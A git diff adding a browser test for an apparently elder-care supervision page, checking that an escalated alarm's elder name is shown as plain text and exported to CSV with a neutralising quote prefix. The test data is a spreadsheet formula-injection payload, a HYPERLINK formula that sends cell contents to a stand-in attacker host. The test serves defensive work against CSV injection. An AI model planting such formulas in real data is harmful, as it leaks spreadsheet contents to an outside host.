@@ -1,4 +1,5 @@
 import { readFileSync } from 'node:fs'
+import { parse } from 'csv-parse/sync'
 import type { BrowserContext, Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { HOME, offset, startWorld, type World } from '../support/world.ts'
@@ -175,6 +176,29 @@ describe.skipIf(!haveChromium && !mustRun)('the supervision page in Chromium', (
     await page.waitForSelector('body[data-loaded=true]')
     expect(await page.locator('.kpi[data-kpi=kpiOnTime] .kpi-label').textContent()).toBe('On time')
     await screenshot(page, 'supervision-en', true)
+    await page.close()
+  })
+
+  it('shows a name that looks like a formula as text, and exports it as text', async () => {
+    const name = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+    // far from every carer: escalated, and late once its 15 minutes are over
+    await world.elder('E03', { name, grid: ['车王镇', '北村', 'G02'], home: offset(HOME, 30_000, 0) })
+    const raised = await world.api<{ id: string }>('POST', '/api/v1/alarms', { elderId: 'E03' })
+    expect(raised.status).toBe(201)
+    world.scheduler.advance(16 * 60_000)
+    const page = await login(context, world, 'sup-all')
+    await page.waitForSelector('body[data-loaded=true]')
+    const row = page.locator('#late tbody tr', { hasText: raised.body.id })
+    expect(await row.locator('td').nth(4).textContent()).toBe(name)
+    expect(await page.locator('#late a, #late [href]').count()).toBe(0)
+    const [download] = await Promise.all([
+      page.waitForEvent('download'),
+      page.click('button.csv[data-table=late]'),
+    ])
+    const rows = parse(readFileSync(await download.path(), 'utf8').replace(/^\ufeff/, '')) as string[][]
+    const exported = rows.find((r) => r[0] === raised.body.id)
+    expect(exported?.[4]).toBe(`'${name}`)
+    expect(exported?.[5]).toBe('E03')
     await page.close()
   })
 })
